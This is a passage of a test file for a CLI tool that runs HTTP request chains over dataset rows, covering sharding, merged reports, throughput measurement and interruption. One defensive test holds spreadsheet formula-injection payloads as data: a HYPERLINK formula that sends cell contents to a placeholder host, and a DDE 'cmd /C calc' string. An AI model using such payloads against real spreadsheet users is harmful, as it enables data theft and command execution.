// Data-driven runs against real servers: one chain per row, the row's fields as variables, every
// row accounted for once in the results file even when the server throttles and stalls, row
// ranges, the summary, and the example in requests/.
import { readFileSync, writeFileSync } from 'node:fs'
import { spawn } from 'node:child_process'
import { join } from 'node:path'
import { createInterface } from 'node:readline'
import { afterEach, describe, expect, it } from 'vitest'
import { runCli } from './helpers/run-cli.js'
import { json, type TestServer, startServer } from './helpers/server.js'
import { tempDir } from './helpers/temp.js'

let server: TestServer | undefined
afterEach(async () => {
  await server?.close()
  server = undefined
})

const root = join(import.meta.dirname, '..')
const lines_ = (path: string) => lines(path)
const lines = (path: string) =>
  readFileSync(path, 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as Record<string, unknown>)

describe('--dataset', () => {
  it('runs the example regression set against the built-in server, a results line per row', async () => {
    const dir = tempDir('dataset')
    const result = await runCli(
      [
        'test',
        'requests/batch.http',
        '--dataset',
        'requests/questions.jsonl',
        '--mock',
        '--results',
        join(dir, 'r.jsonl'),
      ],
      { cwd: root },
    )
    expect(result.exitCode, result.stderr).toBe(0)
    expect(result.stderr).toContain('rows: 12 passed, 0 failed of 12')
    expect(result.stderr).toMatch(/latency: p50 [\d.]+ ms · p90 [\d.]+ ms · p99 [\d.]+ ms/)
    const rows = lines(join(dir, 'r.jsonl'))
    expect(rows.map((r) => r['row'])).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12])
    expect(rows[0]).toMatchObject({
      status: 'passed',
      values: { question: 'What is the capital of France?' },
      reply: 'The capital of France is Paris.',
      usage: { completion_tokens: 6 },
    })
  })

  it('runs rows as parallel chains with --parallel, each row once', async () => {
    const dir = tempDir('dataset')
    const result = await runCli(
      [
        'test',
        'requests/batch.http',
        '--dataset',
        'requests/questions.jsonl',
        '--mock',
        '--parallel',
        '4',
        '--results',
        join(dir, 'r.jsonl'),
      ],
      { cwd: root },
    )
    expect(result.exitCode, result.stderr).toBe(0)
    expect(
      lines(join(dir, 'r.jsonl'))
        .map((r) => r['row'])
        .sort((a, b) => Number(a) - Number(b)),
    ).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12])
    expect(result.stderr).toMatch(/12 passed, 0 failed\n$/)
  })

  it("reads CSV with quoted fields, keeps each row's captures to itself, and takes --rows and --limit", async () => {
    server = await startServer({ 'POST /ask': (_req, res, body) => json(res, { echo: JSON.parse(body.toString()) }) })
    const dir = tempDir('dataset')
    writeFileSync(join(dir, 'rows.csv'), 'q,n\n"a, ""quoted"" one",1\n"two\nlines",2\nthree,3\nfour,4\n')
    writeFileSync(
      join(dir, 'r.http'),
      '# @capture seen = $.echo.q\nPOST {{base}}/ask\nContent-Type: application/json\n\n{"q": "{{q}}", "n": {{n}}, "i": {{$rowIndex}}, "before": "{{default seen "none"}}"}\n',
    )
    const result = await runCli(['test', 'r.http', '--dataset', 'rows.csv', '--var', `base=${server.url}`], {
      cwd: dir,
    })
    expect(result.exitCode, result.stderr).toBe(0)
    expect(server.calls.map((c) => JSON.parse(c.body.toString()))).toEqual([
      { q: 'a, "quoted" one', n: 1, i: 0, before: 'none' },
      { q: 'two\nlines', n: 2, i: 1, before: 'none' },
      { q: 'three', n: 3, i: 2, before: 'none' },
      { q: 'four', n: 4, i: 3, before: 'none' },
    ])
    await runCli(
      ['test', 'r.http', '--dataset', 'rows.csv', '--rows', '2-4', '--limit', '2', '--var', `base=${server.url}`],
      { cwd: dir },
    )
    expect(server.calls.slice(4).map((c) => JSON.parse(c.body.toString()).n)).toEqual([2, 3])
  })

  it('accounts for every row once when the server throttles and one row stalls', async () => {
    let calls = 0
    server = await startServer({
      'POST /ask': (_req, res, body) => {
        const { q } = JSON.parse(body.toString()) as { q: string }
        if (++calls % 3 === 0) return json(res, { error: 'slow down' }, 429, { 'Retry-After': '0' })
        if (q === 'stall')
          return new Promise<void>((resolve) =>
            setTimeout(() => {
              json(res, {})
              resolve()
            }, 1500),
          )
        return json(res, { answer: q })
      },
    })
    const dir = tempDir('dataset')
    writeFileSync(
      join(dir, 'rows.jsonl'),
      ['a', 'b', 'stall', 'c', 'd', 'e', 'f'].map((q) => JSON.stringify({ q })).join('\n'),
    )
    writeFileSync(
      join(dir, 'r.http'),
      '# @assert status == 200\nPOST {{base}}/ask\nContent-Type: application/json\n\n{"q": "{{q}}"}\n',
    )
    const result = await runCli(
      [
        'test',
        'r.http',
        '--dataset',
        'rows.jsonl',
        '--retry',
        '3',
        '--retry-delay',
        '0.01',
        '--idle-timeout',
        '0.3',
        '--results',
        'out.jsonl',
        '--var',
        `base=${server.url}`,
      ],
      { cwd: dir },
    )
    const rows = lines(join(dir, 'out.jsonl'))
    expect(result.exitCode).toBe(3)
    expect(rows.map((r) => r['row']).sort()).toEqual([1, 2, 3, 4, 5, 6, 7])
    expect(rows.filter((r) => r['status'] === 'error').map((r) => r['row'])).toEqual([3])
    expect(rows.filter((r) => r['status'] === 'passed')).toHaveLength(6)
  })

  it('says where a dataset is wrong', async () => {
    const dir = tempDir('dataset')
    writeFileSync(join(dir, 'r.http'), 'GET http://127.0.0.1:9/{{q}}\n')
    writeFileSync(join(dir, 'bad.jsonl'), '{"q": 1}\n{"q": oops}\n')
    const bad = await runCli(['test', 'r.http', '--dataset', 'bad.jsonl'], { cwd: dir })
    expect(bad.exitCode).toBe(2)
    expect(bad.stderr).toContain('--> bad.jsonl:2:')
    expect((await runCli(['test', 'r.http', '--rows', '1-2'], { cwd: dir })).exitCode).toBe(1)
  })

  it('splits rows over --shard K/N, each row in exactly one shard, and merge prints the unsplit summary', async () => {
    const dir = tempDir('dataset')
    const common = ['test', 'requests/batch.http', '--dataset', 'requests/questions.jsonl', '--mock', '-q']
    for (const k of [1, 2, 3, 4, 5]) {
      const shard = await runCli([...common, '--shard', `${k}/5`, '--results', join(dir, `s${k}.jsonl`)], { cwd: root })
      expect(shard.exitCode, shard.stderr).toBe(0)
    }
    const shards = [1, 2, 3, 4, 5].map((k) => lines(join(dir, `s${k}.jsonl`)).map((r) => r['row']))
    expect(shards[0]).toEqual([1, 6, 11])
    expect(shards.flat().sort((a, b) => Number(a) - Number(b))).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12])
    // The whole run's own summary, then its lines dealt into shards by hand and merged back.
    const whole = await runCli([...common.slice(0, -1), '--results', join(dir, 'whole.jsonl')], { cwd: root })
    const text = readFileSync(join(dir, 'whole.jsonl'), 'utf8').trim().split('\n')
    writeFileSync(join(dir, 'a.jsonl'), `${text.filter((_, i) => i % 2 === 0).join('\n')}\n`)
    writeFileSync(join(dir, 'b.jsonl'), `${text.filter((_, i) => i % 2 === 1).join('\n')}\n`)
    // The five shard processes merged: the same rows, passes and tokens as the unsharded run (timings differ run to run).
    const shardsMerged = await runCli(['merge', ...[1, 2, 3, 4, 5].map((k) => `s${k}.jsonl`)], { cwd: dir })
    const countsOf = (text: string) => text.split('\n').filter((l) => /^(rows|tokens):/.test(l))
    expect(countsOf(shardsMerged.stdout)).toEqual(countsOf(whole.stderr))
    expect(countsOf(shardsMerged.stdout)).toEqual([
      'rows: 12 passed, 0 failed of 12',
      'tokens: 133 prompt, 190 completion',
    ])
    // Every shard is there, once: a missing or repeated shard is exit 2, naming it.
    expect(lines(join(dir, 's2.jsonl'))[0]!['shard']).toBe('2/5')
    const partial = await runCli(['merge', 's1.jsonl', 's2.jsonl', 's4.jsonl', 's5.jsonl'], { cwd: dir })
    expect(partial.exitCode).toBe(2)
    expect(partial.stderr).toContain('Shard 3/5 is missing: 4 of 5 given')
    writeFileSync(join(dir, 's2-again.jsonl'), readFileSync(join(dir, 's2.jsonl')))
    const twice = await runCli(['merge', ...[1, 2, 3, 4, 5].map((k) => `s${k}.jsonl`), 's2-again.jsonl'], { cwd: dir })
    expect(twice.exitCode).toBe(2)
    expect(twice.stderr).toMatch(
      /Shard 2\/5 is given twice: s2\.jsonl and s2-again\.jsonl|Row \d+ of .* is in s2\.jsonl/,
    )
    const merged = await runCli(['merge', 'b.jsonl', 'a.jsonl', '--results', 'all.jsonl'], { cwd: dir })
    expect(merged.exitCode, merged.stderr).toBe(0)
    const summary = whole.stderr.slice(whole.stderr.indexOf('rows:')).replace(/\n\d+ passed.*\n$/, '\n')
    expect(merged.stdout).toBe(summary)
    expect(readFileSync(join(dir, 'all.jsonl'), 'utf8')).toBe(`${text.join('\n')}\n`)
  })

  it('merge refuses overlapping shards, a file that is not results, and overwriting an input', async () => {
    const dir = tempDir('dataset')
    const row = (n: number, status = 'passed') =>
      JSON.stringify({
        row: n,
        values: {},
        file: 'r.http',
        status,
        requests: 1,
        asserts: { passed: 1, failed: 0 },
        captures: {},
        totalMs: n,
      })
    writeFileSync(join(dir, 'a.jsonl'), `${row(1)}\n${row(2)}\n`)
    writeFileSync(join(dir, 'b.jsonl'), `${row(3, 'failed')}\n${row(2)}\n`)
    writeFileSync(join(dir, 'c.jsonl'), `${row(3, 'failed')}\n{"row": 4}\n`)
    const overlap = await runCli(['merge', 'a.jsonl', 'b.jsonl'], { cwd: dir })
    expect(overlap.exitCode).toBe(2)
    expect(overlap.stderr).toContain('Row 2 of r.http is in a.jsonl:2 and in b.jsonl:2')
    expect(overlap.stderr).toContain('--> b.jsonl:2:1')
    const bad = await runCli(['merge', 'a.jsonl', 'c.jsonl'], { cwd: dir })
    expect(bad.exitCode).toBe(2)
    expect(bad.stderr).toContain('--> c.jsonl:2:1')
    const clobber = await runCli(['merge', 'a.jsonl', '--results', './a.jsonl'], { cwd: dir })
    expect(clobber.exitCode).toBe(1)
    expect(readFileSync(join(dir, 'a.jsonl'), 'utf8')).toBe(`${row(1)}\n${row(2)}\n`)
    writeFileSync(join(dir, 'b.jsonl'), `${row(3, 'failed')}\n`)
    const failed = await runCli(['merge', 'a.jsonl', 'b.jsonl'], { cwd: dir })
    expect(failed.exitCode).toBe(4)
    expect(failed.stdout).toContain('rows: 2 passed, 1 failed of 3')
    expect((await runCli(['run', 'r.http', '--shard', '1/2'], { cwd: dir })).exitCode).toBe(1)
    expect((await runCli(['test', 'r.http', '--shard', '3/2'], { cwd: dir })).exitCode).toBe(1)
  })

  it('splits the files of a test run with --shard K/N', async () => {
    server = await startServer({ 'GET /f': (req, res) => json(res, { url: req.url }) })
    const dir = tempDir('dataset')
    for (const name of ['a', 'b', 'c', 'd']) writeFileSync(join(dir, `${name}.http`), `GET {{base}}/f?${name}\n`)
    for (const k of [1, 2]) {
      const result = await runCli(['test', '.', '--shard', `${k}/2`, '--var', `base=${server.url}`], { cwd: dir })
      expect(result.stderr).toMatch(/2 passed, 0 failed\n$/)
    }
    expect(server.calls.map((c) => c.path)).toEqual(['/f?a', '/f?c', '/f?b', '/f?d'])
  })

  it('keeps one progress line at the bottom of a terminal, taken away before every other line and at the end; none when piped or --quiet', async () => {
    const args = ['test', 'requests/batch.http', '--dataset', 'requests/questions.jsonl', '--mock']
    const tty = await runCli(args, { cwd: root, tty: true })
    expect(tty.exitCode, tty.stderr).toBe(0)
    const draws = tty.stderr.match(/rows \d+\/12[^\r\n\x1b]*/g) ?? []
    expect(draws.at(-1)).toMatch(/^rows 12\/12 · \d+:\d\d elapsed · \d+ tok\/s$/)
    expect(draws.some((d) => /^rows [1-9]\d?\/12 · \d+:\d\d elapsed · ETA \d+:\d\d · \d+ tok\/s$/.test(d))).toBe(true)
    // Every drawn line is cleared again: what stays on the screen is the run's own output.
    const cleaned = tty.stderr.replace(/rows \d+\/12[^\r\n\x1b]*\r\x1b\[K/g, '')
    expect(cleaned).not.toMatch(/rows \d+\/12 ·/)
    expect(cleaned).toMatch(/\nrows: 12 passed, 0 failed of 12\n[\s\S]*12 passed, 0 failed\n$/)
    for (const quiet of [await runCli(args, { cwd: root }), await runCli([...args, '-q'], { cwd: root, tty: true })]) {
      expect(quiet.stderr).not.toContain('\x1b[K')
      expect(quiet.stderr).not.toMatch(/rows \d+\/12 ·/)
    }
  })

  it('keeps the rows written so far and writes the reports when interrupted mid-batch', async () => {
    const controller = new AbortController()
    let calls = 0
    server = await startServer({
      'POST /ask': (_req, res, body) => {
        if (++calls <= 3) return json(res, { answer: JSON.parse(body.toString()).q })
        controller.abort() // Ctrl-C while the fourth row is waiting for its answer
        return new Promise<void>((resolve) =>
          setTimeout(() => {
            json(res, {})
            resolve()
          }, 2000),
        )
      },
    })
    const dir = tempDir('dataset')
    writeFileSync(join(dir, 'rows.jsonl'), ['a', 'b', 'c', 'd', 'e', 'f'].map((q) => JSON.stringify({ q })).join('\n'))
    writeFileSync(
      join(dir, 'r.http'),
      '# @assert status == 200\nPOST {{base}}/ask\nContent-Type: application/json\n\n{"q": "{{q}}"}\n',
    )
    const result = await runCli(
      [
        'test',
        'r.http',
        '--dataset',
        'rows.jsonl',
        '--results',
        'out.jsonl',
        '--report',
        'junit=r.xml',
        '--report',
        'json=r.json',
        '--var',
        `base=${server.url}`,
      ],
      { cwd: dir, signal: controller.signal },
    )
    expect(result.exitCode).toBe(130)
    const rows = lines(join(dir, 'out.jsonl'))
    expect(rows.filter((r) => r['status'] === 'passed').map((r) => r['row'])).toEqual([1, 2, 3])
    const report = JSON.parse(readFileSync(join(dir, 'r.json'), 'utf8')) as { summary?: unknown; steps?: unknown[] }
    expect(JSON.stringify(report)).toContain('"interrupted":true')
    expect(readFileSync(join(dir, 'r.xml'), 'utf8')).toMatch(/<testsuites[\s\S]*<\/testsuites>\s*$/)
    expect(calls).toBe(4)
    // The rows never run are skipped everywhere, not failed: stderr, every report, and merge.
    expect(rows.map((r) => r['status'])).toEqual(['passed', 'passed', 'passed', 'error', 'skipped', 'skipped'])
    expect(result.stderr).toContain('rows: 3 passed, 1 failed, 2 skipped of 6')
    expect(result.stderr).toMatch(/3 passed, 1 failed, 2 skipped\n$/)
    expect(report).toMatchObject({ summary: { passed: 3, failed: 1, skipped: 2, interrupted: true } })
    expect(readFileSync(join(dir, 'r.xml'), 'utf8')).toMatch(
      /<testsuites [^>]*tests="6" failures="0" errors="1" skipped="2"/,
    )
    const merged = await runCli(['merge', 'out.jsonl'], { cwd: dir })
    expect(merged.stdout + merged.stderr).toContain('rows: 3 passed, 1 failed, 2 skipped of 6')
  })

  it('writes --results FILE.csv with the chosen --columns, quoted for a spreadsheet, secrets masked', async () => {
    server = await startServer({
      'POST /ask': (_req, res, body) =>
        json(res, {
          choices: [{ message: { content: `says "${JSON.parse(body.toString()).q}",\nthen sk-secret-123` } }],
          usage: { prompt_tokens: 3, completion_tokens: 5 },
        }),
    })
    const dir = tempDir('dataset')
    writeFileSync(join(dir, 'rows.jsonl'), ['a, b', 'c'].map((q) => JSON.stringify({ q })).join('\n'))
    writeFileSync(join(dir, 'r.http'), 'POST {{base}}/ask\nContent-Type: application/json\n\n{"q": "{{q}}"}\n')
    const base = [
      'test',
      'r.http',
      '--dataset',
      'rows.jsonl',
      '--var',
      `base=${server.url}`,
      '--var',
      'apiKey=sk-secret-123',
    ]
    const chosen = await runCli(
      [...base, '--results', 'r.csv', '--columns', 'row,values.q,reply,usage.completion_tokens,asserts'],
      { cwd: dir },
    )
    expect(chosen.exitCode, chosen.stderr).toBe(0)
    const { parse } = await import('csv-parse/sync')
    expect(parse(readFileSync(join(dir, 'r.csv'), 'utf8'))).toEqual([
      ['row', 'values.q', 'reply', 'usage.completion_tokens', 'asserts'],
      ['1', 'a, b', 'says "a, b",\nthen ********', '5', '{"passed":0,"failed":0}'],
      ['2', 'c', 'says "c",\nthen ********', '5', '{"passed":0,"failed":0}'],
    ])
    const byDefault = await runCli([...base, '--results', 'd.csv'], { cwd: dir })
    expect(byDefault.exitCode, byDefault.stderr).toBe(0)
    expect(readFileSync(join(dir, 'd.csv'), 'utf8').split('\n')[0]).toBe(
      'row,values.q,status,reply,ttftMs,totalMs,tokensPerSecond,usage.prompt_tokens,usage.completion_tokens,error.message',
    )
    expect((await runCli([...base, '--results', 'r.jsonl', '--columns', 'row'], { cwd: dir })).exitCode).toBe(1)
    expect((await runCli([...base, '--results', 'r.csv', '--columns', 'row,,reply'], { cwd: dir })).exitCode).toBe(1)
  })

  it("neutralises CSV cells a spreadsheet would run as a formula, the server's reply included", async () => {
    server = await startServer({
      'POST /ask': (_req, res, body) =>
        json(res, { choices: [{ message: { content: JSON.parse(body.toString()).reply } }] }),
    })
    const dir = tempDir('dataset')
    const hostile = [
      '=HYPERLINK("http://x.test/?"&A1)',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '-3',
      '+1.5e3',
      'plain',
    ]
    writeFileSync(join(dir, 'rows.jsonl'), hostile.map((reply) => JSON.stringify({ reply })).join('\n'))
    writeFileSync(
      join(dir, 'r.http'),
      'POST {{base}}/ask\nContent-Type: application/json\n\n{"reply": {{json reply}}}\n',
    )
    const result = await runCli(
      [
        'test',
        'r.http',
        '--dataset',
        'rows.jsonl',
        '--parallel',
        '1',
        '--var',
        `base=${server.url}`,
        '--results',
        'r.csv',
        '--columns',
        'values.reply,reply',
      ],
      { cwd: dir },
    )
    expect(result.exitCode, result.stderr).toBe(0)
    const { parse } = await import('csv-parse/sync')
    const rows = (parse(readFileSync(join(dir, 'r.csv'), 'utf8')) as string[][]).slice(1)
    const expected = hostile.map((cell) => (['-3', '+1.5e3', 'plain'].includes(cell) ? cell : `'${cell}`))
    expect(rows.map((r) => r[0]).sort()).toEqual([...expected].sort())
    expect(rows.map((r) => r[1]).sort()).toEqual([...expected].sort())
  })

  it('puts the row summary in the JSON and Markdown reports and names JUnit cases by --row-name', async () => {
    const dir = tempDir('dataset')
    const result = await runCli(
      [
        'test',
        'requests/batch.http',
        '--dataset',
        'requests/questions.jsonl',
        '--mock',
        '--rows',
        '1-3',
        '--row-name',
        'question',
        '--report',
        `json=${join(dir, 'r.json')}`,
        '--report',
        `markdown=${join(dir, 'r.md')}`,
        '--report',
        `junit=${join(dir, 'r.xml')}`,
      ],
      { cwd: root },
    )
    expect(result.exitCode, result.stderr).toBe(0)
    const report = JSON.parse(readFileSync(join(dir, 'r.json'), 'utf8')) as {
      dataset: { rows: number; passed: number; latencyMs: { p50: number }; completionTokens: number }
    }
    expect(report.dataset).toMatchObject({ rows: 3, passed: 3, failed: 0, completionTokens: 34 })
    expect(report.dataset.latencyMs.p50).toBeGreaterThan(0)
    expect(readFileSync(join(dir, 'r.md'), 'utf8')).toContain('\n- rows: 3 passed, 0 failed of 3\n')
    expect(readFileSync(join(dir, 'r.xml'), 'utf8')).toContain(
      '<testcase name="ask (row 2 How many people live in Paris?)"',
    )
    const typo = await runCli(
      ['test', 'requests/batch.http', '--dataset', 'requests/questions.jsonl', '--mock', '--row-name', 'questoin'],
      { cwd: root },
    )
    expect(typo.exitCode).toBe(1)
    expect(typo.stderr).toContain('did you mean `question`?')
  })

  it("merge joins the shards' JUnit and JSON reports, counts summed and the row summary from the results", async () => {
    const dir = tempDir('dataset')
    for (const k of [1, 2, 3]) {
      const shard = await runCli(
        [
          'test',
          'requests/batch.http',
          '--dataset',
          'requests/questions.jsonl',
          '--mock',
          '-q',
          '--shard',
          `${k}/3`,
          '--results',
          join(dir, `s${k}.jsonl`),
          '--report',
          `junit=${join(dir, `s${k}.xml`)}`,
          '--report',
          `json=${join(dir, `s${k}.json`)}`,
        ],
        { cwd: root },
      )
      expect(shard.exitCode, shard.stderr).toBe(0)
    }
    const merged = await runCli(
      [
        'merge',
        's1.jsonl',
        's2.jsonl',
        's3.jsonl',
        's1.xml',
        's2.xml',
        's3.xml',
        's1.json',
        's2.json',
        's3.json',
        '--junit',
        'all.xml',
        '--json',
        'all.json',
      ],
      { cwd: dir },
    )
    expect(merged.exitCode, merged.stderr).toBe(0)
    const xml = readFileSync(join(dir, 'all.xml'), 'utf8')
    expect(xml).toMatch(
      /^<\?xml version="1.0" encoding="UTF-8"\?>\n<testsuites name="reqchain" tests="12" failures="0" errors="0" skipped="0" time="[\d.]+">\n/,
    )
    expect(xml.match(/<testcase /g)).toHaveLength(12)
    expect(xml.match(/<testsuite /g)).toHaveLength(3)
    const report = JSON.parse(readFileSync(join(dir, 'all.json'), 'utf8')) as {
      summary: { passed: number }
      dataset: { rows: number; completionTokens: number }
      steps: { row: number }[]
    }
    expect(report.summary.passed).toBe(12)
    expect(report.dataset).toMatchObject({ rows: 12, completionTokens: 190 })
    expect(report.steps.map((s) => s.row)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12])
    expect((await runCli(['merge', 's1.xml'], { cwd: dir })).exitCode).toBe(1) // no --junit to write to
    writeFileSync(join(dir, 'bad.xml'), '<nope/>')
    const bad = await runCli(['merge', 'bad.xml', '--junit', 'out.xml'], { cwd: dir })
    expect(bad.exitCode).toBe(2)
    expect(bad.stderr).toContain('bad.xml is not a JUnit report')
  })

  it("gives tok/s that describe the server: paced, read late, or the server's own, and a summary of tokens over time", async () => {
    const chunk = (content: string) =>
      `data: ${JSON.stringify({ object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content } }] })}\n\n`
    const usage = (extra: object = {}) =>
      `data: ${JSON.stringify({ object: 'chat.completion.chunk', choices: [], usage: { prompt_tokens: 3, completion_tokens: 21 }, ...extra })}\n\ndata: [DONE]\n\n`
    server = await startServer({
      // 21 tokens, 10 ms apart: 100 tok/s, as the reader sees them arrive.
      'POST /paced': async (_req, res) => {
        res.writeHead(200, { 'Content-Type': 'text/event-stream' })
        for (let i = 0; i < 21; i++) {
          res.write(chunk(`t${i} `))
          await new Promise((r) => setTimeout(r, 10))
        }
        res.end(usage())
      },
      // The same tokens in one write: what a reader that is late sees. No figure is better than 20,000 tok/s.
      'POST /late': (_req, res) => {
        res.writeHead(200, { 'Content-Type': 'text/event-stream' })
        res.end(Array.from({ length: 21 }, (_, i) => chunk(`t${i} `)).join('') + usage())
      },
      // The server says how fast it was (llama-server's timings): that figure is the row's.
      'POST /timed': (_req, res) => {
        res.writeHead(200, { 'Content-Type': 'text/event-stream' })
        res.end(
          Array.from({ length: 21 }, (_, i) => chunk(`t${i} `)).join('') +
            usage({ timings: { predicted_per_second: 42.5 } }),
        )
      },
    })
    const dir = tempDir('dataset')
    writeFileSync(
      join(dir, 'rows.jsonl'),
      ['paced', 'late', 'timed'].map((path) => JSON.stringify({ path })).join('\n'),
    )
    writeFileSync(
      join(dir, 'r.http'),
      `POST ${server.url}/{{path}}\nContent-Type: application/json\n\n{"stream": true}\n`,
    )
    const result = await runCli(['test', 'r.http', '--dataset', 'rows.jsonl', '--results', 'out.jsonl'], { cwd: dir })
    expect(result.exitCode, result.stderr).toBe(0)
    const rows = Object.fromEntries(
      lines(join(dir, 'out.jsonl')).map((r) => [(r['values'] as { path: string }).path, r]),
    )
    expect(rows['paced']!['tokensPerSecond']).toBeGreaterThan(60)
    expect(rows['paced']!['tokensPerSecond']).toBeLessThan(110)
    expect(rows['late']!['tokensPerSecond']).toBeUndefined()
    expect(rows['timed']!['tokensPerSecond']).toBe(42.5)
    // 42 tokens over (21/paced + 21/42.5) seconds: between the two rates, never their mean of 70-odd.
    const paced = rows['paced']!['tokensPerSecond'] as number
    const expected = Math.round((42 / (21 / paced + 21 / 42.5)) * 10) / 10
    expect(result.stderr).toContain(`speed: ${expected} tok/s`)
  })

  it('gives the true tok/s of a paced server when the reader is blocked as the first tokens arrive', async () => {
    // The server is another process, so it keeps its pace (21 tokens, 10 ms apart: 100 tok/s) while
    // this one — the reader — is deliberately blocked for 150 ms as the request reaches it.
    const child = spawn(
      process.execPath,
      [
        '-e',
        `const chunk = (content) => 'data: ' + JSON.stringify({ object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content } }] }) + '\\n\\n'
        const server = require('node:http').createServer((req, res) => {
          req.resume()
          req.on('end', () => {
            process.stdout.write('request\\n')
            res.writeHead(200, { 'Content-Type': 'text/event-stream' })
            let i = 0
            const timer = setInterval(() => {
              if (i < 21) return void res.write(chunk('t' + i++ + ' '))
              clearInterval(timer)
              res.end('data: ' + JSON.stringify({ object: 'chat.completion.chunk', choices: [], usage: { prompt_tokens: 3, completion_tokens: 21 } }) + '\\n\\ndata: [DONE]\\n\\n')
            }, 10)
          })
        })
        server.listen(0, '127.0.0.1', () => process.stdout.write(server.address().port + '\\n'))`,
      ],
      { stdio: ['ignore', 'pipe', 'inherit'] },
    )
    try {
      const lines = createInterface({ input: child.stdout })
      const port = await new Promise<string>((ok) => lines.once('line', ok))
      lines.on('line', (line) => {
        if (line !== 'request') return
        const until = performance.now() + 150
        while (performance.now() < until); // the reader's event loop, blocked
      })
      const dir = tempDir('dataset')
      writeFileSync(join(dir, 'rows.jsonl'), '{"n": 1}\n')
      writeFileSync(
        join(dir, 'r.http'),
        `POST http://127.0.0.1:${port}/v1/chat/completions\nContent-Type: application/json\n\n{"stream": true}\n`,
      )
      const result = await runCli(['test', 'r.http', '--dataset', 'rows.jsonl', '--results', 'out.jsonl'], { cwd: dir })
      expect(result.exitCode, result.stderr).toBe(0)
      const [row] = lines_(join(dir, 'out.jsonl'))
      // Most tokens came in one burst after the block: counted from the first token, as if each had
      // come when it was read, they give about 300 tok/s.
      const rate = row!['tokensPerSecond'] as number
      expect(rate).toBeGreaterThan(50)
      expect(rate).toBeLessThan(180)
      expect(row!['ttftMs']).toBeGreaterThan(140)
    } finally {
      child.kill()
    }
  })

  it('prints one --extract value per row with run --dataset -e (JSON Lines); a row whose query fails is null and exit 3', async () => {
    server = await startServer({
      'POST /ask': (_req, res, body) => json(res, { answer: (JSON.parse(body.toString()) as { q: string }).q }),
    })
    const dir = tempDir('dataset')
    writeFileSync(join(dir, 'rows.jsonl'), ['a', 'b "quoted"', 'c'].map((q) => JSON.stringify({ q })).join('\n'))
    writeFileSync(join(dir, 'r.http'), `POST ${server.url}/ask\nContent-Type: application/json\n\n{"q": "{{q}}"}\n`)
    const values = await runCli(['run', 'r.http', '--dataset', 'rows.jsonl', '-e', '$.answer'], { cwd: dir })
    expect(values.exitCode, values.stderr).toBe(0)
    expect(values.stdout).toBe('"a"\n"b \\"quoted\\""\n"c"\n')
    const raw = await runCli(['run', 'r.http', '--dataset', 'rows.jsonl', '-e', '$.answer', '-r'], { cwd: dir })
    expect(raw.stdout).toBe('a\nb "quoted"\nc\n')
    const missing = await runCli(['run', 'r.http', '--dataset', 'rows.jsonl', '-e', '$.nope'], { cwd: dir })
    expect(missing.stdout).toBe('null\nnull\nnull\n')
    expect(missing.stderr).toContain('--extract (row 2): No match for `$.nope`')
    expect(missing.exitCode).toBe(3)
  })

  it('takes --shard auto from the CI: GitLab, CircleCI, Buildkite, a Kubernetes Indexed Job with --shard-count', async () => {
    const dir = tempDir('dataset')
    const common = ['test', 'requests/batch.http', '--dataset', 'requests/questions.jsonl', '--mock', '-q']
    const rowsOf = async (env: Record<string, string>, extra: string[] = []) => {
      const file = join(dir, `auto-${Object.values(env).join('-')}.jsonl`)
      const result = await runCli([...common, '--shard', 'auto', ...extra, '--results', file], { cwd: root, env })
      expect(result.exitCode, result.stderr).toBe(0)
      return lines(file).map((r) => [r['row'], r['shard']])
    }
    expect(await rowsOf({ CI_NODE_INDEX: '2', CI_NODE_TOTAL: '5' })).toEqual([
      [2, '2/5'],
      [7, '2/5'],
      [12, '2/5'],
    ])
    expect((await rowsOf({ CIRCLE_NODE_INDEX: '0', CIRCLE_NODE_TOTAL: '6' })).map(([row]) => row)).toEqual([1, 7])
    expect(
      (await rowsOf({ BUILDKITE_PARALLEL_JOB: '5', BUILDKITE_PARALLEL_JOB_COUNT: '6' })).map(([row]) => row),
    ).toEqual([6, 12])
    expect((await rowsOf({ JOB_COMPLETION_INDEX: '3' }, ['--shard-count', '4'])).map(([row]) => row)).toEqual([
      4, 8, 12,
    ])
    const noCount = await runCli([...common, '--shard', 'auto'], { cwd: root, env: { JOB_COMPLETION_INDEX: '3' } })
    expect(noCount.exitCode).toBe(1)
    expect(noCount.stderr).toContain('needs --shard-count N')
    const none = await runCli([...common, '--shard', 'auto'], { cwd: root, env: {} })
    expect(none.exitCode).toBe(1)
    expect(none.stderr).toContain('--shard auto found no shard in the environment')
  })

  it('runs each chain --repeat N times, gives the pass rate of each request and assertion, and passes at --pass-rate', async () => {
    let calls = 0
    server = await startServer({
      // Right two times in three: an LLM's way.
      'POST /ask': (_req, res) => json(res, { answer: ++calls % 3 === 0 ? 'Lyon' : 'Paris' }),
    })
    const dir = tempDir('dataset')
    writeFileSync(
      join(dir, 'r.http'),
      `# @name ask\n# @assert status == 200\n# @assert $.answer == "Paris"\nPOST ${server.url}/ask\n`,
    )
    const plain = await runCli(['test', 'r.http', '--repeat', '3'], { cwd: dir })
    expect(plain.exitCode).toBe(4)
    expect(plain.stderr).toMatch(
      /pass rate over 3 runs:\n {2}ask \(r\.http:4\) +2\/3 {2}66\.7%\n {4}status == 200 +3\/3\n {4}\$\.answer == "Paris" +2\/3\n/,
    )
    expect(plain.stderr).toContain('2 passed, 1 failed')
    calls = 0
    expect((await runCli(['test', 'r.http', '--repeat', '3', '--pass-rate', '0.6'], { cwd: dir })).exitCode).toBe(0)
    calls = 0
    expect((await runCli(['test', 'r.http', '--repeat', '3', '--pass-rate', '0.7'], { cwd: dir })).exitCode).toBe(4)
    // With a dataset, each row runs N times; the results say which run.
    writeFileSync(join(dir, 'rows.jsonl'), '{"q": 1}\n{"q": 2}\n')
    await runCli(['test', 'r.http', '--dataset', 'rows.jsonl', '--repeat', '2', '--results', 'out.jsonl'], { cwd: dir })
    expect(lines(join(dir, 'out.jsonl')).map((r) => [r['row'], r['repeat']])).toEqual([
      [1, 1],
      [1, 2],
      [2, 1],
      [2, 2],
    ])
    const merged = await runCli(['merge', 'out.jsonl'], { cwd: dir })
    expect(merged.exitCode, merged.stderr).not.toBe(2)
